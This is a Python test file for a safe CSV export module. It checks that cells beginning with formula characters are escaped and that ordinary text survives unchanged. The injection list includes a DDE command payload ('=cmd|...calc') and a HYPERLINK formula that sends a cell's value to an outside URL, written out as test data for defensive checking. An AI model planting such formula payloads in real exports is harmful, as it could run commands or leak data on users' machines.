"""What is exported opens in a spreadsheet as text: no cell becomes a formula, and ordinary text is left alone."""

import csv
from datetime import UTC, date, datetime
from io import StringIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from goldendoor.hall.matters.safe_csv import STARTS_A_FORMULA, neutral, write_rows

INJECTIONS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    '=HYPERLINK("http://example.org/?x="&A1,"here")', "=cmd|' /C calc'!A0", "\u200b=1+1", "＝1+1",
)  # fmt: skip


def read_back(rows: list[list[Any]], columns: list[str]) -> list[list[str]]:
    out = StringIO(newline="")
    assert write_rows(out, columns, rows) == len(rows)
    return list(csv.reader(StringIO(out.getvalue(), newline="")))[1:]


@pytest.mark.parametrize("cell", INJECTIONS)
def test_no_cell_is_a_formula(cell: str) -> None:
    assert read_back([[cell, "after"]], ["one", "two"]) == [[f"'{cell}", "after"]]


def test_a_heading_is_no_formula_either() -> None:
    out = StringIO()
    write_rows(out, ["=1+1"], [])
    assert out.getvalue() == '"\'=1+1"\r\n'


@pytest.mark.parametrize(
    "text",
    [
        "",
        "ICE",
        "1:26-mj-00123",
        "a - b",
        "5 = 5",
        "somebody@example.org",
        "O'Hare",
        "'quoted'",
        "¿Dónde?",
        "日本語",
        'a "b", c;d',
    ],
)
def test_ordinary_text_comes_back_as_it_was(text: str) -> None:
    assert read_back([[text, "x"]], ["one", "two"]) == [[text, "x"]]


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=2, max_size=2))
def test_whatever_is_written_is_read_back_as_it_was_or_made_harmless(cells: list[str]) -> None:
    (row,) = read_back([cells], ["one", "two"])
    assert row == [neutral(one) for one in cells]
    for written, read in zip(cells, row, strict=True):
        assert read in (written, f"'{written}") and not read.startswith(STARTS_A_FORMULA)


def test_numbers_stay_numbers_and_days_are_written_one_way() -> None:
    when = datetime(2026, 2, 20, 15, tzinfo=UTC)
    row = [-5, 2.5, True, False, None, date(2026, 2, 20), when]
    assert read_back([row], list("abcdefg")) == [
        ["-5", "2.5", "yes", "no", "", "2026-02-20", "2026-02-20T15:00:00+00:00"]
    ]


def test_a_row_that_does_not_fit_is_refused() -> None:
    with pytest.raises(ValueError, match="row 2 has 1 cells"):
        write_rows(StringIO(), ["one", "two"], [["a", "b"], ["c"]])
